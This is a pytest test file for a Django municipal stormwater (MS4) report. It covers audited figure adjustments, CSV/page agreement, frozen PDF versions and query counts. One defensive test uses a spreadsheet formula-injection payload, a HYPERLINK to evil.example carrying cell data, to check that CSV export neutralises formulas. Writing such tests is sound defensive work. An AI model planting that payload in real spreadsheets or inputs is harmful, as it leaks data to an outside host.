"""Issue 21, item 1: the MS4 report's pages: an adjustment with a reason shown beside
the computed value (audited), the CSV equal to the page, the signed PDF frozen and a
later correction a new version; a fixed number of queries at 10 and 1,000 records."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse

from illicit.models import Report
from lockport_sw.accounts.roles import Role
from lockport_sw.calendar.counting import TOWN_TZ
from lockport_sw.reports import periods, services
from lockport_sw.reports.models import Adjustment, IssuedReport
from tests.pdf_checks import text as pdf_text
from tests.reports.queries import queries_for

pytestmark = pytest.mark.django_db

YEAR = periods.annual(2026)
IN_2026 = datetime(2026, 6, 1, 12, tzinfo=TOWN_TZ)
AFTER = datetime(2027, 2, 10, 10, tzinfo=TOWN_TZ)


def _reports(n: int, at=IN_2026, start: int = 0) -> None:
    Report.objects.bulk_create(
        Report(
            reference=f"R-B-{start + i:06d}",
            token_hash="x" * 64,
            kind="other",
            address=f"{i} Main Street",
            requested_at=at + timedelta(minutes=i),
            source="open311" if i % 4 == 0 else "web",
        )
        for i in range(n)
    )


@pytest.fixture
def smo(make_user):
    return make_user(Role.SMO, full_name="Sam Morgan")


def _page_figures(html: str) -> dict[str, str]:
    """The reported value of each figure as the page shows it, by the row's id."""
    rows = re.findall(
        r'<tr id="figure-([^"]+)">.*?data-reported>\s*(.*?)\s*</td>', html, flags=re.S
    )
    return {key: re.sub(r"<[^>]+>", "", value).strip() for key, value in rows}


def test_the_smo_adjusts_a_figure_with_a_reason_shown_beside_it(client, smo):
    _reports(3)
    client.force_login(smo)
    url = reverse("reports:figure_adjust", args=["2026", "idde.reports"])
    response = client.post(url, {"amount": "5", "reason": "Paper log, January, before the system."})
    assert response.status_code == 302

    page = client.get(reverse("reports:annual_period", args=["2026"])).content.decode()
    assert _page_figures(page)["idde-reports"] == "8"  # 3 counted + 5
    # Each counted figure links to the records behind it.
    assert f'href="{reverse("reports:figure", args=["2026", "idde.reports"])}"' in page
    assert "Paper log, January, before the system." in page
    # Audited: each change is kept, with who made it.
    client.post(url, {"amount": "4", "reason": "Recounted the paper log."})
    history = list(Adjustment.history.order_by("history_id"))
    assert [(h.amount, h.history_user) for h in history] == [
        (Decimal("5"), smo),
        (Decimal("4"), smo),
    ]


def test_an_adjustment_without_a_reason_is_refused_and_keeps_what_was_typed(client, smo):
    client.force_login(smo)
    url = reverse("reports:figure_adjust", args=["2026", "idde.reports"])
    response = client.post(url, {"amount": "7", "reason": " "})
    assert response.status_code == 200
    assert 'value="7"' in response.content.decode()
    assert not Adjustment.objects.exists()


def test_a_stale_adjustment_is_refused(client, smo, make_user):
    client.force_login(smo)
    url = reverse("reports:figure_adjust", args=["2026", "idde.reports"])
    read = client.get(url).context["form"]["record_version"].value()
    services.adjustment_save(
        acting_user=smo, period=YEAR, figure_key="idde.reports", amount=Decimal(2), reason="First."
    )
    response = client.post(url, {"amount": "9", "reason": "Mine.", "record_version": read})
    assert response.status_code == 200
    assert Adjustment.objects.get().amount == Decimal(2)


def test_only_the_smo_adjusts(make_user):
    with pytest.raises(Exception, match="Only the SMO"):
        services.adjustment_save(
            acting_user=make_user(Role.INSPECTOR),
            period=YEAR,
            figure_key="idde.reports",
            amount=Decimal(1),
            reason="x",
        )


def test_the_csv_opens_with_the_csv_module_and_equals_the_page(client, smo):
    _reports(9)
    services.adjustment_save(
        acting_user=smo,
        period=YEAR,
        figure_key="idde.outfalls",
        amount=Decimal(12),
        reason="Outfalls mapped on paper in 2019.",
    )
    client.force_login(smo)
    page = _page_figures(
        client.get(reverse("reports:annual_period", args=["2026"])).content.decode()
    )
    response = client.get(reverse("reports:annual_csv", args=["2026"]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))

    assert response["Content-Type"].startswith("text/csv")
    assert len(rows) == len(page)
    by_key = {row["key"]: row for row in rows}
    assert by_key["idde.reports"]["reported"] == "9"
    assert by_key["idde.reports_open311"]["reported"] == "3"
    assert by_key["idde.outfalls"]["computed"] == "0"
    assert by_key["idde.outfalls"]["adjustment"] == "12"
    assert by_key["idde.outfalls"]["reason"] == "Outfalls mapped on paper in 2019."
    assert by_key["idde.outfalls"]["reported"] == "12"
    # Every number equals the page's, figure by figure.
    for row in rows:
        shown = page[row["key"].replace(".", "-")]
        assert re.sub(r"[$,]|\sdays$", "", shown) == (row["reported"] or "none"), row


def test_the_report_is_issued_only_once_the_period_has_ended(smo):
    with (
        time_machine.travel(IN_2026, tick=False),
        pytest.raises(Exception, match="once it has ended"),
    ):
        services.report_issue(acting_user=smo, period=YEAR)
    assert not IssuedReport.objects.exists()


def test_the_issued_report_is_frozen_and_a_correction_is_a_new_version(client, smo):
    _reports(4)
    with time_machine.travel(AFTER, tick=False):
        client.force_login(smo)
        response = client.post(reverse("reports:annual_issue", args=["2026"]))
        assert response.status_code == 302
        first = IssuedReport.objects.get()
        assert first.version == 1 and first.document.number.startswith("MS4-REPORT-2027-")
        with first.document.file.open("rb") as fh:
            text = pdf_text(fh.read())
        assert "Reports received" in text and "Sam Morgan" in text

        # Records found later change the page, never the issued report.
        _reports(2, start=100)
        services.adjustment_save(
            acting_user=smo,
            period=YEAR,
            figure_key="idde.reports",
            amount=Decimal(1),
            reason="A report phoned in.",
        )
        first.refresh_from_db()
        assert {r["key"]: r["reported"] for r in first.figures}["idde.reports"] == "4"

        second = services.report_issue(acting_user=smo, period=YEAR)
    assert second.version == 2
    assert second.document.supersedes == first.document
    assert {r["key"]: r["reported"] for r in second.figures}["idde.reports"] == "7"


@pytest.mark.parametrize(
    "url",
    [
        reverse("reports:annual"),  # opens on the period due next (issue 47, item 2)
        reverse("reports:annual_period", args=["2026"]),
        reverse("reports:figure", args=["2026", "idde.reports"]),
        reverse("reports:annual_csv", args=["2026"]),
    ],
    ids=["due-next", "report", "figure", "csv"],
)
def test_the_pages_keep_a_fixed_number_of_queries_at_10_and_1000_records(client, smo, url):
    client.force_login(smo)
    _reports(10)
    at_10 = queries_for(client, url)
    _reports(990, start=10)
    assert Report.objects.count() == 1000
    assert queries_for(client, url) == at_10


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_never_starts_a_cell_with_a_formula(client, smo, start):
    """Issue 45, item 6d: a reason typed as a formula is written as text (a leading
    apostrophe); numbers stay numbers."""
    reason = f'{start}HYPERLINK("http://evil.example/?"&A1,"see")'
    services.adjustment_save(
        acting_user=smo, period=YEAR, figure_key="idde.outfalls", amount=Decimal(-2), reason=reason
    )
    client.force_login(smo)
    response = client.get(reverse("reports:annual_csv", args=["2026"]))
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell
    outfalls = next(row for row in rows if row[2] == "idde.outfalls")
    kept = reason.strip()  # the service keeps the reason without surrounding blanks
    assert outfalls[6] == ("'" + kept if kept[0] in "=+-@" else kept)
    assert outfalls[5] == "-2"


def test_safe_cell_leaves_text_and_numbers_alone():
    from lockport_sw.core.csv_cells import safe_cell

    assert safe_cell("Outfalls mapped") == "Outfalls mapped"
    assert safe_cell("-3.5") == "-3.5"
    assert safe_cell("-1+1") == "'-1+1"
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("\t=1") == "'\t=1" and safe_cell("\r=1") == "'\r=1"
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)" and safe_cell("+1") == "'+1"
    assert safe_cell(None) == ""


REPORT_QUERIES = 14  # as counted in the tests' settings: the session, the user and the
# request's floor as on every page; issued and adjustments; the three figures that are a
# median or a sum; the stored counts: never one a figure or a record.


def _report_queries(client, url) -> list[str]:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from lockport_sw.core import kept

    kept.replace_all()  # the page made anew (core/kept_pages.py), as after any write
    with CaptureQueriesContext(connection) as ctx:
        assert client.get(url).status_code == 200
    return [q["sql"][:90] for q in ctx.captured_queries]


def test_the_report_page_asks_a_fixed_small_number_of_queries_whatever_the_records(client, smo):
    """Issue 44: the report's figures are read from the kept counts or counted in one
    statement (figures.compute_all); the page's queries are a fixed small number, not
    one a figure, at 10 and at 1,000 records and with figures adjusted."""
    from lockport_sw.reports import figures

    client.force_login(smo)
    url = reverse("reports:annual_period", args=["2026"])
    _reports(10)
    client.get(url)
    at_10 = _report_queries(client, url)
    assert len(at_10) == REPORT_QUERIES, at_10
    _reports(990, start=10)
    for figure in figures.all_figures()[:20]:
        Adjustment.objects.create(
            period_start=YEAR.start,
            period_end=YEAR.end,
            figure=figure.key,
            amount=Decimal(1),
            reason="Counted by hand.",
            made_by=smo,
            made_at=AFTER,
        )
    written = _report_queries(client, url)  # the written tables' figures counted again
    assert len(written) <= REPORT_QUERIES + 3, written
    assert len(_report_queries(client, url)) == REPORT_QUERIES
    assert len(figures.all_figures()) > 3 * REPORT_QUERIES


def test_the_kept_figure_table_shows_the_next_count_adjustment_and_the_users_rights(
    client, smo, make_user
):
    """The figures' table is rendered once per process for what it shows
    (reports/views._figure_table): a record counted, an adjustment made, changed or its
    maker renamed, all show on the next request; a user who may not adjust sees no
    "Adjust" link even when the SMO's table is kept."""
    url = reverse("reports:annual_period", args=["2026"])
    client.force_login(smo)
    _reports(3)
    assert _page_figures(client.get(url).content.decode())["idde-reports"] == "3"
    _reports(2, start=3)
    assert _page_figures(client.get(url).content.decode())["idde-reports"] == "5"
    services.adjustment_save(
        acting_user=smo, period=YEAR, figure_key="idde.reports", amount=Decimal(1), reason="A."
    )
    page = client.get(url).content.decode()
    assert _page_figures(page)["idde-reports"] == "6" and "Sam Morgan" in page
    smo.full_name = "Samantha Morgan"
    smo.save()
    assert "Samantha Morgan" in client.get(url).content.decode()
    adjust = reverse("reports:figure_adjust", args=["2026", "idde.reports"])
    assert adjust in client.get(url).content.decode()
    client.force_login(make_user(Role.CLERK))  # reads the report, adjusts nothing
    board = client.get(url)
    assert board.status_code == 200
    assert adjust not in board.content.decode()
    assert _page_figures(board.content.decode())["idde-reports"] == "6"
